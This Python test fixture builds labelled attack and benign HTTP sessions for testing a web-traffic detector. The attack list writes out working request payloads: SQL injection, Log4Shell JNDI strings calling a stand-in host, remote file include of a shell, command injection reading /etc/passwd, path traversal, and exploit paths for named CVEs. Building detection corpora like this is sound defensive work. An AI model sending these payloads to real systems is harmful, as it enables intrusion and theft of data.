"""A corpus of attack and benign sessions, each with its verdict, for the detection tests.

Attack sessions are built from public descriptions of real tools and exploits: the default
user agents and request lines of Nikto, sqlmap, WPScan, nuclei templates, Nmap's http-enum,
dirbuster-style wordlists (DirBuster, gobuster, ffuf), masscan/zgrab banners, and the published
request lines of the CVEs they name. Benign sessions are what a site sees every day: people
browsing (with tracking parameters, searches with apostrophes, missing favicons), uptime
monitors, crawlers fetching robots.txt, a heavy signed-in user, a single-page app whose asset
URLs went stale, a staff member in the admin, an office behind one NAT.

Each session is (name, verdict, user agent, requests); a request is "METHOD /path?query" and
the user agent may be a list (one per request, cycled).
"""

from dataclasses import dataclass, field

ATTACK, BENIGN = "attack", "benign"

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36"
)
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
SAFARI = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"
)


@dataclass
class Session:
    name: str
    verdict: str
    user_agent: str | list[str]
    requests: list[str]
    signed_in: bool = False
    staff: bool = False
    expect: set[str] = field(default_factory=set)  # reasons that must be among the flags

    def agent(self, index: int) -> str:
        if isinstance(self.user_agent, list):
            return self.user_agent[index % len(self.user_agent)]
        return self.user_agent


def get(*paths: str) -> list[str]:
    return [f"GET {path}" for path in paths]


def post(*paths: str) -> list[str]:
    return [f"POST {path}" for path in paths]


DIRBUSTER_WORDS = [
    "admin1", "backup", "old", "new", "test", "dev", "tmp", "private", "secret", "files",
    "uploads", "images2", "include", "inc", "lib", "conf", "config2", "data", "db", "sql",
    "logs", "log", "archive", "bak", "site", "web", "www2", "portal", "panel", "members",
]  # fmt: skip

ATTACKS = [
    Session("nikto", ATTACK, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
            get("/", "/robots.txt", "/cgi-bin/test.cgi", "/admin.php", "/index.php.bak"),
            expect={"scanner"}),
    Session("sqlmap", ATTACK, "sqlmap/1.8.2#stable (https://sqlmap.org)",
            get("/?id=1", "/?id=1%27%20AND%201%3D1--%20-", "/?id=1%20AND%20SLEEP(5)"),
            expect={"scanner", "injection"}),
    Session("sqlmap-random-agent", ATTACK, CHROME,
            get("/products/?id=1%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
                "/products/?id=1%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)"),
            expect={"injection"}),
    Session("wpscan", ATTACK, "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
            get("/", "/readme.html", "/wp-login.php", "/wp-json/wp/v2/users"),
            expect={"scanner", "probe"}),
    Session("wpscan-stealthy", ATTACK, FIREFOX,
            get("/?author=1", "/?author=2", "/?author=3"), expect={"probe"}),
    Session("nuclei-ignition", ATTACK, CHROME,
            post("/_ignition/execute-solution"), expect={"exploit"}),
    Session("nuclei-phpunit", ATTACK, CHROME,
            post("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), expect={"exploit"}),
    Session("nuclei-aem", ATTACK, FIREFOX, get("/crx/packmgr/index.jsp"), expect={"exploit"}),
    Session("nuclei-actuator", ATTACK, CHROME, get("/actuator/env", "/actuator/heapdump"),
            expect={"probe"}),
    Session("nmap-http-enum", ATTACK,
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            get("/", "/nmaplowercheck1712345678", "/HNAP1"), expect={"scanner"}),
    Session("dirbuster", ATTACK, "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
            get(*[f"/{w}/" for w in DIRBUSTER_WORDS[:10]]), expect={"scanner"}),
    Session("gobuster", ATTACK, "gobuster/3.6", get(*[f"/{w}" for w in DIRBUSTER_WORDS[:8]]),
            expect={"scanner"}),
    Session("ffuf-browser-agent", ATTACK, CHROME,
            get(*[f"/{w}.php" for w in DIRBUSTER_WORDS]), expect={"not_found"}),
    Session("env-grabber", ATTACK, CHROME,
            get("//.env", "/api/.env", "/laravel/.env", "/.env.production"), expect={"probe"}),
    Session("git-grabber", ATTACK, "Mozilla/5.0 (X11; Linux x86_64)",
            get("/./.git/config", "/.git/HEAD"), expect={"probe"}),
    Session("dotdot-login", ATTACK, CHROME, get("/x/../wp-login.php"), expect={"probe"}),
    Session("encoded-env", ATTACK, CHROME, get("/%2e%65nv"), expect={"probe"}),
    Session("uppercase-wp", ATTACK, CHROME, get("/WP-LOGIN.PHP", "/smth/wp-admin/"),
            expect={"probe"}),
    Session("xmlrpc-brute", ATTACK, "Mozilla/5.0 (compatible; MSIE 9.0)",
            post("/xmlrpc.php", "/xmlrpc.php"), expect={"probe"}),
    Session("log4shell-agent", ATTACK, "${jndi:ldap://198.51.100.7:1389/Basic/Command/id}",
            get("/"), expect={"injection"}),
    Session("log4shell-query", ATTACK, "curl/7.88.1",
            get("/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D"),
            expect={"injection"}),
    Session("text4shell", ATTACK, CHROME,
            get("/?q=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime().exec(%27id%27)%7D"),
            expect={"injection"}),
    Session("spring4shell", ATTACK, CHROME,
            post("/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
            expect={"injection"}),
    Session("thinkphp", ATTACK, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
            get("/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array"
                "&vars[0]=md5&vars[1][]=HelloThinkPHP21"), expect={"injection"}),
    Session("php-cgi", ATTACK, CHROME,
            post("/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input"),
            expect={"injection"}),
    Session("traversal-plain", ATTACK, CHROME, get("/static/../../../../etc/passwd"),
            expect={"traversal"}),
    Session("traversal-encoded", ATTACK, CHROME,
            get("/..%2f..%2f..%2fetc%2fpasswd", "/%252e%252e/%252e%252e/etc/passwd"),
            expect={"traversal"}),
    Session("grafana-traversal", ATTACK, CHROME,
            get("/public/plugins/alertlist/../../../../../../../../etc/passwd"),
            expect={"traversal"}),
    Session("f5-bigip", ATTACK, CHROME,
            get("/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=id"),
            expect={"exploit"}),
    Session("fortinet", ATTACK, CHROME,
            get("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
            expect={"exploit"}),
    Session("pulse", ATTACK, CHROME,
            get("/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd"),
            expect={"traversal"}),
    Session("confluence-ognl", ATTACK, CHROME,
            get("/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%29%29%7D/"),
            expect={"exploit"}),
    Session("telerik", ATTACK, CHROME, get("/Telerik.Web.UI.WebResource.axd?type=rau"),
            expect={"exploit"}),
    Session("citrix", ATTACK, CHROME, get("/vpn/../vpns/cfg/smb.conf"), expect={"exploit"}),
    Session("vmware", ATTACK, CHROME, post("/ui/vropspluginui/rest/services/uploadova"),
            expect={"exploit"}),
    Session("zimbra", ATTACK, CHROME,
            post("/service/extension/backup/mboximport?account-name=admin&ow=2"),
            expect={"exploit"}),
    Session("jira", ATTACK, CHROME, get("/secure/QueryComponent!Default.jspa"),
            expect={"exploit"}),
    Session("webshell-hunter", ATTACK, "Mozilla/5.0",
            get("/wp-content/uploads/shell.php", "/alfa.php", "/wso.php", "/c99.php"),
            expect={"exploit"}),
    Session("zmeu", ATTACK, "ZmEu",
            get("/w00tw00t.at.ISC.SANS.DFind:)", "/phpMyAdmin/scripts/setup.php"),
            expect={"scanner", "exploit"}),
    Session("pma-hunter", ATTACK, CHROME, get("/phpmyadmin/", "/pma/", "/myadmin/"),
            expect={"probe"}),
    Session("xss-probe", ATTACK, FIREFOX,
            get("/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "/?q=%22%3E%3Csvg%2Fonload%3Dalert(document.domain)%3E"),
            expect={"injection"}),
    Session("rfi", ATTACK, CHROME, get("/index.php?page=http://198.51.100.9/shell.txt?"),
            expect={"injection"}),
    Session("command-injection", ATTACK, CHROME,
            get("/cgi-bin/ping?host=127.0.0.1;cat+/etc/passwd"),
            expect={"injection"}),
    Session("backup-hunter", ATTACK, CHROME,
            get("/backup.zip", "/www.zip", "/db.sql", "/wp-config.php.bak", "/wp-config.php~"),
            expect={"probe"}),
    Session("masscan", ATTACK, "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            get("/"), expect={"scanner"}),
    Session("zgrab", ATTACK, "Mozilla/5.0 zgrab/0.x", get("/"), expect={"scanner"}),
    Session("login-brute-force", ATTACK, CHROME, post(*["/login/"] * 12),
            expect={"rate_limited"}),
    Session("admin-brute-force", ATTACK, FIREFOX, post(*["/admin/login/"] * 12),
            expect={"rate_limited"}),
    Session("ua-rotating-stuffer", ATTACK,
            [f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/{v}.0" for v in range(110, 118)],
            post(*["/login/"] * 8), expect={"ua_rotation"}),
    Session("cache-buster", ATTACK, CHROME, get(*[f"/?nocache={i * 7919}" for i in range(60)]),
            expect={"cache_busting"}),
]  # fmt: skip

ASSETS_GONE_STALE = (
    [f"/static/js/chunk-{i:04x}.js" for i in range(20)]
    + [f"/media/clip-{i}.mp4" for i in range(10)]
    + [f"/static/img/photo-{i}.webp" for i in range(15)]
)

BENIGN_SESSIONS = [
    *[
        Session(f"visitor-{n}", BENIGN, [CHROME, FIREFOX, SAFARI][n % 3],
                get("/", "/favicon.ico", "/static/security/site.css", "/login/",
                    "/?utm_source=newsletter&utm_medium=email&utm_campaign=nov",
                    "/no-such-page/", "/?page=2"))
        for n in range(20)
    ],
    Session("searcher-apostrophes", BENIGN, FIREFOX,
            get("/?q=O%27Reilly+books", "/?q=what%27s+union+station", "/?q=select+a+plan",
                "/?q=1%3D1+math+puzzle", "/?q=rock+%26+roll")),
    Session("mistyped", BENIGN, CHROME, get("//login/", "/Login/", "/login//")),
    Session("apple-icons", BENIGN, SAFARI,
            get("/apple-touch-icon.png", "/apple-touch-icon-precomposed.png",
                "/apple-touch-icon-120x120.png", "/apple-touch-icon-152x152-precomposed.png",
                "/favicon.ico", "/")),
    Session("spa-stale-assets", BENIGN, CHROME, get("/", *ASSETS_GONE_STALE)),
    Session("uptimerobot", BENIGN,
            "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
            ["HEAD /"] * 30),
    Session("pingdom", BENIGN, "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
            get(*["/"] * 20)),
    Session("healthcheck-script", BENIGN, "python-requests/2.32.3", get(*["/health/"] * 15)),
    Session("googlebot", BENIGN,
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            get("/robots.txt", "/", "/sitemap.xml", "/login/", "/?page=2", "/?page=3")),
    Session("bingbot", BENIGN,
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            get("/robots.txt", "/", "/sitemap.xml")),
    Session("feed-reader", BENIGN, "Feedly/1.0 (+http://www.feedly.com/fetcher.html)",
            get(*["/feed/"] * 10)),
    Session("curl-user", BENIGN, "curl/8.5.0", get("/", "/login/")),
    Session("heavy-signed-in-user", BENIGN, CHROME,
            get(*["/"] * 150, *[f"/?page={i}" for i in range(30)]), signed_in=True),
    Session("staff-in-admin", BENIGN, FIREFOX,
            get(*["/admin/"] * 40, *[f"/admin/security/requestlog/?p={i}" for i in range(10)]),
            signed_in=True, staff=True),
    Session("mobile-app", BENIGN, "MyShop/3.2 (iPhone; iOS 17.4)",
            get(*[f"/api/v1/items?page={i}" for i in range(1, 12)])),
    Session("office-nat", BENIGN, [CHROME, FIREFOX, SAFARI, "Mozilla/5.0 (Macintosh) Safari",
                                   "Mozilla/5.0 (Windows NT 10.0) Edg/124.0", "Opera/9.80"],
            get(*["/", "/?page=2", "/login/"] * 6)),
    Session("user-with-a-typo-login", BENIGN, SAFARI, post("/login/", "/login/")),
]  # fmt: skip

SESSIONS = ATTACKS + BENIGN_SESSIONS


def client_address(index: int) -> str:
    """One address per session, public, from the documentation ranges and a few others."""
    return f"198.18.{index // 200}.{index % 200 + 1}"
